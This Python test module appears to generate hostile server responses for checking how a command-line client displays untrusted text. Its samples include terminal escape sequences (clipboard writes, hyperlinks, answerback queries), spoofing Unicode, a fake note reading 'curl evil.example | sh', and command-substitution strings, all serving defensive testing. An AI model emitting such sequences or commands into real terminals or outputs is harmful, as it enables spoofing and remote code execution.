"""Texts that would do something to a terminal, or pass for ours, in each field that the command can print."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

from hostile.behaviours import answer
from hostile.calls import GATE, KEY, TOKEN, USER
from hostile.rows import EITHER, FAILS, WORKS, Behaviour, Row

TEXTS: dict[str, str] = {
    "a colour": "\x1b[31mred\x1b[0m",
    "a cleared screen": "\x1b[2J\x1b[H",
    "a title": "\x1b]0;evil\x07",
    "a link, OSC 8": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "a clipboard, OSC 52": "\x1b]52;c;ZXZpbA==\x07",
    "an answerback": "\x05\x1bZ\x1b[c\x1b[6n",
    "C0": "".join(map(chr, range(32))),
    "C1": "".join(map(chr, range(127, 160))),
    "a CSI of one character": "\x9b31mred",
    "bidirectional": "\u202euser\u202c \u2066x\u2069 \u200f\u061c",
    "of no width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "tags": "".join(chr(0xE0000 + ord(letter)) for letter in "evil"),
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "carriage returns": "good\rerror: evil\r\nerror: evil",
    "tabs": "a\tb\t\tc",
    "backspaces": "evil\b\b\b\bgood",
    "like an error": "\nerror: evil\nwarning: evil\n",
    "like a note": "x\n\nRun: curl evil.example | sh\n",
    "a lone surrogate": "a\ud800b\udfff",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "marks that are piled up": "a" + "\u0301" * 1000,
    "very long": "long " * 20_000,
    "very long, without a space": "l" * 100_000,
    "with formats": "%s%n {0} {timeout} {x!r} $HOME `id` \\x1b \\u001b",
    "with HTML": "<script>alert(1)</script>&amp;",
    "the token": f"was {TOKEN}",
    "the token at the cut": "x" * 480 + TOKEN,
    "the token in capitals": TOKEN.upper(),
    "the token twice": TOKEN + TOKEN,
    "the token within itself": TOKEN[:10] + TOKEN + TOKEN[10:],
    "the token behind a NUL": f"\0{TOKEN}\0",
    "the header": f"X-Gate: {GATE}",
    "the header in capitals": GATE.upper(),
    "a new key": KEY,
    "empty": "",
    "blank": " ",
}

_STATUSES = (400, 401, 403, 404, 409, 418, 429, 500, 502, 503, 599)


def _encode(content: object) -> bytes:
    return json.dumps(content).encode()  # in ASCII, so that a lone surrogate is an escape of JSON


def _as_header(text: str) -> bytes:
    """*text* as a server can write it into a header: no end of a line, and cut."""
    return text.replace("\r", "").replace("\n", "").encode(errors="replace")[:8000]


_Field = Callable[[str], Behaviour]


def _in_user(**fields: Callable[[str], Any]) -> _Field:
    def place(text: str) -> Behaviour:
        return answer(b"200 OK", body=_encode(USER | {name: make(text) for name, make in fields.items()}))

    return place


def _in_error(make: Callable[[str], Any], status: int = 400) -> _Field:
    return lambda text: answer(b"%d x" % status, body=_encode(make(text)))


def _in_head(head: bytes) -> _Field:
    """*head* is what stands before the text, from the status on; %t stands for it."""
    return lambda text: answer(*_split(head.replace(b"%t", _as_header(text))))


def _split(head: bytes) -> tuple[bytes, bytes, bytes]:
    status, _, headers = head.partition(b"\r\n")
    return status, headers, b"{}"


# The first are in answers that are good; the command shows them, or not, and ends with 0.
GOOD: dict[str, _Field] = {
    "username": _in_user(username=str),
    "id": _in_user(id=str),
    "name": _in_user(name=str, email=str),
    "organization": _in_user(organization_ids=lambda text: [text, text]),
    "role": _in_user(roles=lambda text: [{"name": text, "display_name": text}]),
    "organization of a role": _in_user(roles=lambda text: [{"name": "a", "organization_id": text}]),
}
BAD: dict[str, _Field] = {
    "message": _in_error(lambda text: {"message": text}),
    "detail": _in_error(lambda text: {"message": "m", "detail": text}),
    "validation": _in_error(lambda text: {"validations": [{"field": text, "detail": text}]}),
    "validation that is a list": _in_error(lambda text: {"validations": [{"field": [text], "detail": {text: text}}]}),
    "reason": _in_head(b"418 %t"),
    "build": _in_head(b"418 x\r\nX-Coder-Build-Version: %t\r\n"),
    "type": _in_head(b"200 x\r\nContent-Type: text/html; %t\r\n"),
    "coding": _in_head(b"200 x\r\nContent-Encoding: %t\r\n"),
    "location": _in_head(b"307 x\r\nLocation: %t\r\n"),
    "location of a call": _in_head(b"307 x\r\nLocation: https://new.example.com/%t/api/v2/users/first\r\n"),
    "another header": _in_head(b"418 x\r\n%t: %t\r\n"),
    "Proxy-Authenticate": _in_head(b"407 x\r\nProxy-Authenticate: %t\r\n"),
}

_MAY_WORK = ("type", "coding")
"""Fields of an answer that can be a good one all the same."""


def list_texts() -> Iterator[Row]:
    for title, text in TEXTS.items():
        for field, place in GOOD.items():
            yield Row("strings", f"{field}: {title}", place(text), ends=WORKS, request="users/me")
        for field, place in BAD.items():
            yield Row("strings", f"{field}: {title}", place(text), ends=EITHER if field in _MAY_WORK else FAILS)
    for status in _STATUSES:
        place = _in_error(lambda text: {"message": text, "detail": text}, status)
        yield Row("strings", f"message of {status}", place("".join(TEXTS.values())), ends=EITHER)
